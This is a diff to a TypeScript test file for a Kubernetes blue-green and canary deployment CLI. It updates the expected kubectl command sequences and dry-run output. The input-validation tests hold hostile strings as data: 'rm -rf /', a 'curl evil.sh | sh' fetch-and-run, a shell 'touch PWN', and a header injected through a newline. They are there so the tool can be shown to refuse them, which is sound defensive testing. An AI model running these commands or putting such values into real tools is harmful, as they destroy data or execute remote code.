@@ -104,10 +104,9 @@ describe('agent-cicd deploy', { timeout: 120_000 }, () => {
       'kubectl get service agent -o json',
       'kubectl get deployment agent-blue -o json',
       'kubectl apply -f -',
-      'kubectl scale deployment/agent-green --replicas=3',
       'kubectl rollout status deployment/agent-green --timeout=5m',
       'kubectl patch service agent --type=merge -p {"spec":{"selector":{"color":"green"}}}',
-      'kubectl scale deployment/agent-blue --replicas=0',
+      'kubectl scale deployment/agent-blue --replicas=1',
       'kubectl get service agent -o json',
       'kubectl get deployment agent-green -o json',
       'kubectl get deployment agent-blue -o json',
@@ -133,7 +132,7 @@ describe('agent-cicd deploy', { timeout: 120_000 }, () => {
     expect(run.stdout).toMatch(
       /^rolled back to blue after rollout failed: .*timed out waiting for the condition \(verified\)\n$/,
     );
-    expect((await cluster.lines()).slice(4)).toEqual([
+    expect((await cluster.lines()).slice(3)).toEqual([
       'kubectl rollout status deployment/agent-green --timeout=90s',
       'kubectl scale deployment/agent-green --replicas=0',
       'kubectl get service agent -o json',
@@ -150,12 +149,15 @@ describe('agent-cicd deploy', { timeout: 120_000 }, () => {
     for (const args of [
       ['--app', 'agent; rm -rf /', '--image', digestB],
       ['--app', 'agent', '--image', 'agent:1 && curl evil.sh | sh', '-n', 'agents'],
+      // Used to switch traffic first and fail afterwards (issue 10): now refused while planning.
+      ['--app', 'agent', '--image', digestB, '--history-configmap', 'x; touch PWN'],
+      ['--app', 'agent', '--image', digestB, '--smoke-url', 'http://agent.example.com/health\nX-Injected: 1'],
     ]) {
       const run = await cli(['deploy', 'blue-green', ...args]);
       expect(run.exitCode).toBe(2);
       expect(run.stderr).toMatch(/^error\[AGENT_CICD_DEPLOY_INVALID_INPUT\] invalid [^\n]*\n$/);
     }
-    expect(await cluster.lines()).toEqual([]);
+    expect((await cluster.lines()).filter((l) => !l.includes(' get '))).toEqual([]);
   });
 
   it('canary (Gateway API): the gate rolls back at the first step; weight 0 and stable untouched', async () => {
@@ -217,17 +219,19 @@ describe('agent-cicd deploy', { timeout: 120_000 }, () => {
     ]);
   });
 
-  it('--dry-run prints every command (stdin as a here-document) and runs none', async () => {
+  it('--dry-run prints the plan (every command, stdin as a here-document) and runs none', async () => {
     const run = await cli(['deploy', 'blue-green', '--app', 'agent', '--image', digestB, '-n', 'agents', '--dry-run']);
     expect(run.exitCode).toBe(0);
     const out = run.stdout.split('\n');
-    expect(out[0]).toBe('kubectl -n agents get service agent -o json');
-    expect(out[2]).toBe("kubectl -n agents apply -f - <<'AGENT_CICD_EOF'");
-    expect(JSON.parse(out[3] ?? '')).toMatchObject({ kind: 'Deployment', metadata: { name: 'agent-green' } });
+    expect(out[0]).toBe('plan: blue-green');
+    expect(out).toContain('commands:');
+    const applyAt = out.indexOf("  kubectl -n agents apply -f - <<'AGENT_CICD_EOF'");
+    expect(applyAt).toBeGreaterThan(0);
+    expect(JSON.parse(out[applyAt + 1] ?? '')).toMatchObject({ kind: 'Deployment', metadata: { name: 'agent-green' } });
     expect(out).toContain(
-      `kubectl -n agents patch service agent --type=merge -p '{"spec":{"selector":{"color":"green"}}}'`,
+      `  kubectl -n agents patch service agent --type=merge -p '{"spec":{"selector":{"color":"green"}}}'`,
     );
-    expect(out.at(-2)).toBe('switched agent to green (dry-run, not verified)');
+    expect(out.at(-2)).toBe('dry-run: nothing was changed');
     expect(await cluster.lines()).toEqual([]);
   });
 
